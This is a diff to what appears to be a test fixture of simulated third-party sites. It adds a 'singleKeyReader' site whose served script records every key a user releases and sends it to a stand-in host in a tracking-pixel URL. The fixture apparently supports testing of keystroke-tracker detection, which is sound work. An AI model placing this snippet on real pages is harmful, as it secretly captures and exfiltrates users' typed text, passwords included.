@@ -82,6 +82,17 @@ export const keyReader: Site = {
       : { status: 204 },
 }
 
+/** Every key by itself, as it is let go, in the address of a pixel. */
+export const singleKeyReader: Site = {
+  hosts: ['s.singlekeys.example'],
+  answer: ({ path }) =>
+    path.endsWith('.js')
+      ? script(`document.addEventListener('keyup', function (event) {
+  new Image().src = 'https://s.singlekeys.example/p?t=' + Date.now() + '&k=' + encodeURIComponent(event.key)
+}, true)`)
+      : pixel(),
+}
+
 /** Completes addresses while they are typed: it cannot work otherwise. */
 export const places: Site = {
   hosts: ['api.streetfinder.example'],
